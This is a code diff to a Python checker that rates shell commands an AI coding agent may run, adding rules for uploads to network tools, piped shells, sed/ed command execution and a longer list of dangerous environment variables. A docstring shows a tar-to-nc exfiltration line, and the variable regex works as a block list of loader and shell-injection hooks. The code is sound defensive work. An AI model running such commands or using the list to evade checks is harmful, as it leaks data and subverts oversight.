@@ -13,7 +13,7 @@ from codex_core.policy.harmless import sources_are_known, why_asked
 from codex_core.policy.places import Surroundings, absolute, is_endless, is_secret, paths_in, written_place
 from codex_core.policy.shell_parser import parse_line
 from codex_core.policy.words import Command, Redirect, Script, Word, known
-from codex_core.policy.wrappers import FED, INTERPRETERS, SHELLS, is_harmless_variable, unwrap
+from codex_core.policy.wrappers import FED, INTERPRETERS, SHELLS, TAKES_ITS_INPUT, is_harmless_variable, unwrap
 from codex_core.protocol import Verdict
 
 _DEEPEST = 8
@@ -73,7 +73,7 @@ _DANGEROUS_VARIABLES = re.compile(
     r"LD_\w+|DYLD_\w+|BASH_ENV|ENV|PROMPT_COMMAND|PS[0-4]|SHELLOPTS|BASHOPTS|BASH_FUNC\w*|GIT_SSH\w*|GIT_EXTERNAL_DIFF"
     r"|GIT_CONFIG\w*|GIT_EXEC_PATH|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_ASKPASS|GIT_TEMPLATE_DIR|GIT_PROXY_COMMAND"
     r"|PERL5(?:OPT|LIB|DB)|PYTHON(?:STARTUP|PATH|HOME|INSPECT|USERBASE|WARNINGS|BREAKPOINT)|NODE_OPTIONS|RUBYOPT|RUBYLIB"
-    r"|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|LESSOPEN|LESSCLOSE|HISTFILE|GCONV_PATH|RIPGREP_CONFIG_PATH"
+    r"|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|LESSOPEN|LESSCLOSE|HIST(?:FILE|SIZE|FILESIZE)|(?:MAN|GIT_)?PAGER|EDITOR|VISUAL|RUSTUP_TOOLCHAIN|GCONV_PATH|RIPGREP_CONFIG_PATH"
 )
 _ODD_VARIABLES = re.compile(
     r"PATH|IFS|CDPATH|HOME|PWD|OLDPWD|SHELL|EDITOR|VISUAL|BROWSER|TMPDIR|GLOBIGNORE|FIGNORE|EXECIGNORE|HIST\w*|LESS\w*|GIT_\w+"
@@ -148,7 +148,7 @@ class _Assessor:
         if script.problems:
             self._not_understood(script.problems[0])
             self._scan(line, folder)
-        elif lexical.FORK_BOMB.search(line):
+        elif lexical.starts_without_end(line):
             self.found.add("danger", "fork-bomb", "it starts itself without end")
         elif not any(command.words or command.assignments or command.redirects for command in script.commands):
             self.found.add("ask", "empty", "there is nothing to run")
@@ -207,8 +207,26 @@ class _Assessor:
         self._danger(command)
         if _name(command) in _NETWORK_PIPES and any(_name(feeder) in SHELLS for feeder in command.fed_by):
             self.found.add("danger", "network:shell", "it gives a shell to somebody on the network")
+        self._sends_input(command)
         self._secrets(command)
         self._program(command, depth, functions)
+
+    def _sends_input(self, command: Command) -> None:
+        """`tar cz . | nc host 80`: what is fed to a program of the network leaves this machine."""
+        program = _name(command)
+        words = [word.text for word in command.words[1:]]
+        takes_input = (program in _NETWORK_PIPES and program != "openssl") or "s_client" in words
+        takes_input = takes_input or (
+            program in ("curl", "wget", "http") and any(re.search(r"@-$|^-$", w) for w in words)
+        )
+        takes_input = takes_input or program in ("ssh", "sftp", "ftp")
+        is_fed = any(_name(feeder) not in ("echo", "printf", "yes", "") for feeder in command.fed_by)
+        is_fed = is_fed or (
+            any(r.operator == "<" for r in command.redirects)
+            or (program in ("sftp", "ftp") and bool(command.redirects))
+        )
+        if takes_input and is_fed and not any(re.search(r"localhost|127\.0\.0\.1|::1", word) for word in words):
+            self.found.add("danger", "network:upload", f"`{program}` sends what it is given to another machine")
 
     def _program(self, command: Command, depth: int, functions: frozenset[str]) -> None:
         word = command.words[0]
@@ -238,7 +256,7 @@ class _Assessor:
             return
         if program in ("source", "."):
             self.found.add("ask", "source", f"`{program}` runs what is in a file")
-            self._fed_shell(command, depth)
+            self._fed_shell(command, depth, takes_input=False)
             return
         if self._inner(command, depth, only_danger=False):
             return
@@ -246,6 +264,8 @@ class _Assessor:
             self.found.add("ask", *asked)
             if program in INTERPRETERS or re.fullmatch(r"python[\d.]*|perl[\d.]*|[gm]?awk", program):
                 self._interpreter(command)
+            elif program in ("sed", "gsed", "ed", "ex", "git"):
+                self._editor_script(command)
             elif asked[0].startswith("unknown-program"):
                 self._suffixes(command)
         else:
@@ -280,7 +300,7 @@ class _Assessor:
                 own = inner.assignments if program == "env" else ()
                 self.command(replace(inner, redirects=texts, assignments=own), depth + 1)
         if program in SHELLS or program in ("eval", "source", "."):
-            self._fed_shell(command, depth)
+            self._fed_shell(command, depth, takes_input=unwrapped.concern.endswith(TAKES_ITS_INPUT))
         if not concern and not unwrapped.commands and not unwrapped.lines:
             self.found.add("ask", f"wrapper:{program}", f"`{program}` runs what is not known")
         return True
@@ -306,13 +326,15 @@ class _Assessor:
         kept.findings.extend(finding for finding in self.found.findings if finding.verdict == "danger")
         self.found = kept
 
-    def _fed_shell(self, command: Command, depth: int) -> None:
+    def _fed_shell(self, command: Command, depth: int, *, takes_input: bool) -> None:
         """A shell that takes its lines from a pipe or a file descriptor."""
         feeders = command.fed_by
         read = (redirect.target for redirect in command.redirects)
         substituted = [c for word in (*command.words, *read) for script in word.scripts for c in script.commands]
         if any(_name(feeder) in _FETCHERS or _prints_code(feeder) for feeder in (*feeders, *substituted)):
             self.found.add("danger", "fetched-and-run", "it runs what it has just fetched or decoded")
+        elif takes_input and feeders and not _is_readable(feeders[-1]):
+            self.found.add("danger", "piped-code", "a shell runs what another program prints, which nobody has seen")
         for feeder in feeders[-_MOST_VARIANTS:]:
             if _name(feeder) in ("echo", "printf", "cat"):
                 lines = [
@@ -336,8 +358,26 @@ class _Assessor:
             ):
                 self.found.add("danger", *found)
         feeders = (*command.fed_by, *(c for word in command.words for script in word.scripts for c in script.commands))
-        if any(_name(feeder) in _FETCHERS for feeder in feeders) and len(command.words) < 3:
+        is_short = len(command.words) < 3 or (len(command.words) == 3 and bool(command.words[2].scripts))
+        if any(_name(feeder) in _FETCHERS for feeder in feeders) and is_short:
             self.found.add("danger", "fetched-and-run", "it runs what it has just fetched or decoded")
+
+    def _editor_script(self, command: Command) -> None:
+        """`e` in a script of sed and `!` in one of ed run a command; so does what `git grep -O` opens files with."""
+        texts = [text for word in command.words[1:] for text in word.texts or (word.shown,)]
+        texts += [redirect.target.text for redirect in command.redirects if redirect.operator in ("<<", "<<<")]
+        for text in texts:
+            if _name(command) == "git":
+                pieces = re.findall(r"^(?:-O|--open-files-in-pager=)(.+)", text)
+            else:
+                pieces = [p for sign in "/|,#" for p in text.replace("\\" + sign, "\0").split(sign)]
+                pieces = [
+                    re.sub(r"^(?:-\w*e|--\w+=)?[\d,$~]*\s*[e!]\s*", "", p.replace("\0", "/")) for p in (*pieces, text)
+                ]
+            for piece in pieces[:60]:
+                if " " in piece and (found := lexical.scan(piece, command.folder, self._around)):
+                    self.found.add("danger", *found)
+                    return
 
     def _suffixes(self, command: Command) -> None:
         """An unknown program may run the words behind it."""
@@ -424,20 +464,21 @@ class _Assessor:
             value = assignment.value.text if assignment.value.texts else "$?"
             is_set_for_command = bool(command.words)
             if is_set_for_command:
-                if is_harmless_variable(name, value):
+                is_splitting = name == "IFS" and command.words[0].text == "read" and "$" not in value
+                if is_splitting or is_harmless_variable(name, value):
                     continue
                 self.found.beyond.append(f"{name}={assignment.value.shown}")
-            if (
-                _DANGEROUS_VARIABLES.fullmatch(name)
-                and not (name == "HISTFILE" and not command.words)
-                and value not in ("", "cat")
-            ):
+            if _DANGEROUS_VARIABLES.fullmatch(name) and value not in ("", "cat"):
                 verdict: Verdict = (
                     "danger"
-                    if name.startswith(("LD_", "DYLD_", "BASH_ENV", "PROMPT_", "GIT_SSH", "GIT_EXT", "GIT_CONFIG"))
+                    if name.startswith(
+                        ("LD_", "DYLD_", "BASH_ENV", "PROMPT_", "GIT_SSH", "GIT_EXT", "GIT_CONFIG", "HIST")
+                    )
                     else "ask"
                 )
                 self.found.add(verdict, "variable:runs", f"`{name}` makes programs run something else")
+                if value not in ("", "$?") and " " in value:
+                    self._only_danger(lambda value=value: self.line(value, command.folder, _DEEPEST - 1))
             elif is_set_for_command or _ODD_VARIABLES.fullmatch(name):
                 self.found.add("ask", "variable", f"`{name}` changes how programs work")
 
@@ -504,6 +545,11 @@ def _variants(words: Sequence[Word]) -> list[list[str]]:
 
 def _is_fetched(script: Script) -> bool:
     return any(_name(command) in _FETCHERS or _prints_code(command) for command in script.commands)
+
+
+def _is_readable(feeder: Command) -> bool:
+    """Whether what it prints stands in the line, or in a file by that name."""
+    return not feeder.words or (_name(feeder) in ("echo", "printf", "cat") and all(w.texts for w in feeder.words))
 
 
 def _prints_code(command: Command) -> bool:
